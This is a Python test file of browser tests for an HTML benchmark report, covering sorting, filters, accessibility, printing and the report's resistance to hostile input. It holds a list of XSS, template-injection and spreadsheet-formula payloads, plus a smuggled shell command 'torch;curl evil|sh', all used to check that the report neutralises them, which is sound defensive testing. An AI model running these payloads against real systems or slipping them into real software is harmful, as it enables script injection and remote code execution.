"""The report in a real browser: what it shows, does when clicked, and never does.

test_opening.py has the one check in a browser that every `make test` does.
"""

import re

import pytest

from tests.sample_records import vary_record
from xfbench.host.machine import describe
from xfbench.report import content, page

pytestmark = pytest.mark.deep

HOSTILE = [
    "<script>window.owned = 1</script>",
    "\"><img src=x onerror='window.owned = 1'>",
    "</style></script><svg onload=window.owned=1>",
    "javascript:window.owned=1",
    "{{ 7 * 7 }}{% for x in y %}",
    "=cmd|' /C calc'!A0",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202egnp.exe\u2066\u200f",
    "nul\x00nul",
    "Z" + "\u0351" * 5000,
    "w" * 1_000_000,
]


def column(page, name, table=0):
    """The texts of one column of a board's table, from top to bottom."""
    return page.evaluate(
        """([table, name]) => {
             const board = document.querySelectorAll("table.board")[table];
             const heads = [...board.tHead.rows[0].cells].map(head => head.textContent.trim());
             const place = heads.indexOf(name);
             return [...board.tBodies].map(body => body.rows[0].cells[place].textContent.trim());
           }""",
        [table, name],
    )


def header(page, name, table=0):
    return (
        page.locator("table.board > thead").nth(table).get_by_role("button", name=name, exact=True)
    )


@pytest.mark.parametrize("keys", [None, "Enter", "Space"])
def test_a_column_sorts_both_ways_by_mouse_and_keyboard(opened_board, keys):
    shown = opened_board()
    button = header(shown, "images/s")

    def press():
        if keys:
            button.focus()
            shown.keyboard.press(keys)
        else:
            button.click()

    before = column(shown, "of best")
    press()
    assert column(shown, "of best") == before[::-1]
    sorted_by = shown.locator("table.board").first.locator("th[aria-sort]")
    assert sorted_by.count() == 1
    assert sorted_by.get_attribute("aria-sort") == "ascending"
    press()
    assert column(shown, "of best") == before
    assert sorted_by.get_attribute("aria-sort") == "descending"


def test_missing_values_sort_last_both_ways(opened_board):
    shown = opened_board()
    header(shown, "framework").click()
    assert column(shown, "framework") == ["caffe"] * 3 + ["torch"] * 2
    for _ in range(2):
        header(shown, "images/s", table=1).click()
        assert column(shown, "framework", table=1) == ["mxnet", "tensorflow"]


def test_filters_hide_rows_and_count_the_rest(opened_board):
    shown = opened_board()
    count = shown.get_by_role("status")
    assert count.inner_text() == "7 of 7 rows"
    shown.get_by_label("Find").fill("caffe mkl")
    assert count.inner_text() == "1 of 7 rows"
    assert shown.locator("table.board > tbody:visible").count() == 1
    assert not shown.get_by_text("Not ranked: shown").is_visible()
    shown.get_by_role("button", name="Show all").click()
    shown.get_by_text("7 of 7 rows").wait_for()
    shown.get_by_label("Framework").select_option("torch")
    assert count.inner_text() == "2 of 7 rows"
    shown.get_by_label("Framework").select_option("all")
    shown.get_by_label("ranked only").check()
    assert count.inner_text() == "5 of 7 rows"
    shown.get_by_label("Find").fill("<nothing like this>")
    assert count.inner_text() == "0 of 7 rows"
    assert not shown.locator(".one").first.is_visible()


@pytest.mark.parametrize("keys", [None, "Enter"])
def test_a_row_opens_to_records_certificate_and_command(opened_board, board, keys):
    records, certificates = board
    shown = opened_board()
    button = shown.locator("table.board > tbody").first.get_by_role("button")
    details = shown.locator("table.board tr.d").first
    assert button.get_attribute("aria-expanded") == "false" and not details.is_visible()
    if keys:
        button.focus()
        shown.keyboard.press(keys)
    else:
        button.click()
    assert button.get_attribute("aria-expanded") == "true"
    text = details.inner_text()
    own = [one for one in records if one.request.framework == "torch" and one.request.threads == 2]
    for record in own:
        assert record.id[7:23] in text
    assert re.search("quiet|of a core|hypervisor|swap|held processes up", text)
    assert "xfbench run" in text and "--threads 2" in text
    link = details.get_by_role("link", name=own[0].certificate[7:23])
    link.click()
    assert shown.url.endswith(link.get_attribute("href"))
    assert shown.locator(link.get_attribute("href")).is_visible()
    button.click()
    assert not details.is_visible()


def test_the_summary_leads_to_its_row_despite_a_filter(opened_board):
    shown = opened_board()
    shown.get_by_label("Find").fill("caffe")
    row = shown.locator("table.board > tbody").first
    assert not row.is_visible()
    shown.get_by_role("link", name="records and conditions").first.click()
    assert row.locator("tr.d").is_visible()
    assert shown.evaluate("document.activeElement.innerText") == "torch"


def test_an_unranked_row_shows_its_reason(opened_board):
    shown = opened_board()
    reasons = column(shown, "why", table=1)
    assert "no equality certificate" in reasons[0]
    assert reasons[1] == "crashed: rank 0 was killed"
    assert "mxnet" not in shown.get_by_role("article").inner_text()


def test_on_paper_all_details_are_shown_and_no_controls(opened_board, board):
    records, _ = board
    shown = opened_board(color_scheme="dark")
    shown.emulate_media(media="print")
    assert shown.locator("table.board > tbody:visible").count() == 7
    for record in records:
        assert shown.get_by_text(record.id[7:23]).first.is_visible()
    assert shown.locator("tr.d code.command:visible").count() == 7
    assert shown.locator("figure > svg:visible").count() >= 2
    for hidden in ("nav", "form.filter", ".skip", "summary"):
        assert not shown.locator(hidden).first.is_visible()
    assert shown.evaluate("getComputedStyle(document.querySelector('.card')).color") == (
        "rgb(27, 31, 36)"
    )


@pytest.mark.parametrize("hostile", [False, True])
def test_a_phone_does_not_scroll_sideways(opened, board, hostile):
    records, certificates = board
    if hostile:
        long = {"framework": "w" * 10**6, "kernel": "w" * 10**6}
        unheard = [long, {**long, "workload": "w" * 10**6}]
        records = [
            *records,
            *(vary_record(records[0], request=one, seconds=0.1) for one in unheard),
        ]
    shown = opened(records, certificates, viewport={"width": 360, "height": 740})
    for button in shown.locator("table.board > tbody button").all():
        button.click()
    for summary in shown.locator("summary").all():
        summary.click()
    assert shown.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_has_enough_contrast(opened_board, scheme):
    shown = opened_board(color_scheme=scheme)
    grounds, inks = (
        [shown.evaluate(_COLOUR, name) for name in names]
        for names in (("--ground", "--sheet", "--tint"), ("--ink", "--soft", "--accent"))
    )
    assert (max(map(_luminance, grounds)) < 0.05) == (scheme == "dark")
    for ground in grounds:
        for ink in inks:
            pair = sorted((_luminance(ground), _luminance(ink)))
            assert (pair[1] + 0.05) / (pair[0] + 0.05) >= 4.5


_COLOUR = """name => { const probe = document.body.appendChild(document.createElement("i"));
  probe.style.color = `var(${name})`; return getComputedStyle(probe).color; }"""


def _luminance(colour):
    """As WCAG 2 has it."""
    parts = [int(one) / 255 for one in re.findall(r"\d+", colour)]
    linear = [one / 12.92 if one <= 0.04045 else ((one + 0.055) / 1.055) ** 2.4 for one in parts]
    return sum(weight * one for weight, one in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


def poisoned(record, text):
    """The record with a string in every field that may hold one."""

    def poison(value):
        if isinstance(value, str):
            return text
        if isinstance(value, tuple) and value and isinstance(value[0], str):
            return (text,)
        return value

    def part(whole, keep=()):
        fields = {n: poison(getattr(whole, n)) for n in type(whole).model_fields if n not in keep}
        return whole.model_copy(update=fields)

    kept = ("digest",)
    return record.model_copy(
        update={
            "request": part(record.request, ("scaling", "page_cache")).model_copy(
                update={"strategy_options": ((text, text),), "ranks": 2}
            ),
            "workload": part(record.workload, kept),
            "observed": part(record.observed),
            "machine": part(record.machine),
            "limit": record.limit and part(record.limit),
            "software": part(record.software),
            "created": text,
            "certificate": text,
            "cell": text,
            "id": f"sha256:{text}",
        }
    )


def test_hostile_strings_in_any_field_do_nothing(opened, board):
    records, certificates = board
    bad = []
    for number, text in enumerate(HOSTILE):
        one = poisoned(records[0], text)
        failed = {"status": "failed", "reason": text, "id": f"sha256:{number}{text}"}
        bad += [one, poisoned(records[-1], text).model_copy(update=failed)]
    hostile = {text: text for text in HOSTILE}
    shown = opened([*records, *bad], {**certificates, **hostile})
    for button in shown.locator("table.board > tbody button").all():
        button.click()
    header(shown, "framework").click()
    for text in HOSTILE:
        shown.get_by_label("Find").fill(text[:50])
    shown.get_by_label("Find").fill("")
    assert shown.evaluate("window.owned") is None
    assert shown.locator("script").count() == shown.locator("style").count() == 1
    assert shown.locator("img, iframe, object, embed, base, link, a:not([href^='#'])").count() == 0
    assert (
        shown.evaluate(
            """() => [...document.querySelectorAll("*")].some(
             one => [...one.attributes].some(a => a.name.startsWith("on") || a.name === "style"))"""
        )
        is False
    )
    seen = shown.evaluate("document.body.textContent")
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]", seen
    )
    assert "{{ 7 * 7 }}" in seen
    assert len(shown.content()) < 1_500_000


def test_a_hostile_string_can_still_be_read(opened, board):
    records, certificates = board
    shown = opened([*records, poisoned(records[0], "<b>\u202eevil\x00</b>")], certificates)
    assert "<b>\\u202eevil\\x00</b>" in shown.evaluate("document.body.textContent")


def test_a_name_unfit_for_a_shell_has_no_command(opened, board):
    records, certificates = board
    bad = vary_record(records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001)
    shown = opened([bad], certificates)
    assert "No xfbench command repeats this" in shown.get_by_role("article").inner_text()
    assert "evil|sh" not in " ".join(shown.locator("code").all_text_contents())


def test_the_content_policy_stops_injected_scripts(chromium, board, tmp_path):
    text = page.render_report(*board).replace(
        "</main>", "<script>window.owned=1</script><img src=x onerror='window.owned=1'></main>"
    )
    file = tmp_path / "report.html"
    file.write_text(text, encoding="utf-8")
    shown = chromium.new_page()
    asked = []
    shown.on("requestfinished", lambda request: asked.append(request.url))
    shown.goto(file.as_uri())
    assert shown.evaluate("window.owned") is None
    assert asked == [file.as_uri()]
    shown.close()


def test_a_screen_reader_gets_names_and_targets(opened_board):
    shown = opened_board()
    assert shown.locator("table:not(:has(> caption))").count() == 0
    figures = shown.locator("figure > svg")
    assert figures.count() > 2
    for figure in figures.all():
        title, text = (
            shown.locator(f"[id='{one}']")
            for one in figure.get_attribute("aria-labelledby").split()
        )
        assert title.text_content() and len(text.text_content()) > 20
    assert shown.locator("figure:not(:has(details table))").count() == 0
    repeated = "() => [...document.querySelectorAll('[id]')].map(e => e.id)"
    ids = shown.evaluate(repeated)
    assert len(ids) == len(set(ids))
    for target in shown.locator("a").all():
        assert shown.locator(f"[id='{target.get_attribute('href')[1:]}']").count() == 1


def test_the_first_key_skips_to_the_leaderboards(opened_board):
    shown = opened_board()
    shown.keyboard.press("Tab")
    skip = shown.get_by_role("link", name="Skip to the leaderboards")
    assert skip.evaluate("e => e === document.activeElement && e.getBoundingClientRect().x >= 0")
    shown.keyboard.press("Enter")
    shown.wait_for_function("location.hash === '#leaderboards'")
    shown.keyboard.press("Tab")
    assert shown.evaluate("document.activeElement.name") == "words"
    assert shown.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_without_scripts_all_details_are_shown(opened_board):
    shown = opened_board(java_script_enabled=False)
    assert shown.locator("tr.d").first.is_visible()
    assert not shown.locator("form.filter").is_visible()


def test_two_thousand_cells_are_under_five_megabytes_and_sort(opened, measured):
    made = [
        vary_record(
            measured[0],
            request={"threads": threads, "framework": name},
            seconds=0.001 * (1 + threads % 97),
            machine=describe(),
        )
        for name in ("caffe", "mxnet", "tensorflow", "torch")
        for threads in range(1, 501)
    ]
    shown = opened(made)
    assert len(shown.content().encode()) < 5e6
    assert shown.locator("form output").inner_text() == "2,000 of 2,000 rows"
    shown.locator("table.board > thead button", has_text="threads").click()
    assert [one.split()[0] for one in column(shown, "threads")[:5]] == ["1", "1", "1", "1", "2"]
    rows = shown.locator("table.board > tbody:visible")
    assert rows.count() == content.AT_ONCE
    assert rows.first.locator("td[data-c=threads]").inner_text() == "1"
    find = shown.locator("input[name=words]")
    find.fill("torch")
    assert shown.locator("form output").inner_text() == "500 of 2,000 rows"
    assert rows.count() == content.AT_ONCE
    assert rows.first.locator("th").inner_text() == "torch"
    find.fill("")
    shown.locator(".rest button").click()
    assert rows.count() == 2000
    shown.reload()
    shown.emulate_media(media="print")
    assert rows.count() == 2000


def test_empty_report_says_it_has_no_record(opened):
    assert "There is no record" in opened([]).inner_text("main")
